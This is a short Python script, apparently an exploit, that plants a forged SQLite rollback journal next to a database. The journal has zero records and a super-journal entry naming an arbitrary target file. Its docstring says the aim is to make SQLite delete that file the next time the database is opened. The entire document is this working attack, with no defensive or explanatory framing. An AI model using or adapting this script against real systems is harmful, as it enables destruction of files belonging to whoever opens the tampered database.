"""journal_planted.py DATABASE FILE: a journal beside the database by which SQLite would delete FILE, once it has rolled nothing back."""
import os, struct, sys
database, file = sys.argv[1], os.path.abspath(sys.argv[2]).encode()
mark, page, sector = bytes.fromhex("d9d505f920a163d7"), 4096, 512
front = mark + struct.pack(">5I", 0, 1234, os.path.getsize(database) // page, sector, page)
named = struct.pack(">I", 0x40000000 // page + 1) + file + struct.pack(">2I", len(file), sum(file)) + mark
open(database + "-journal", "wb").write(front.ljust(sector, b"\0") + named)
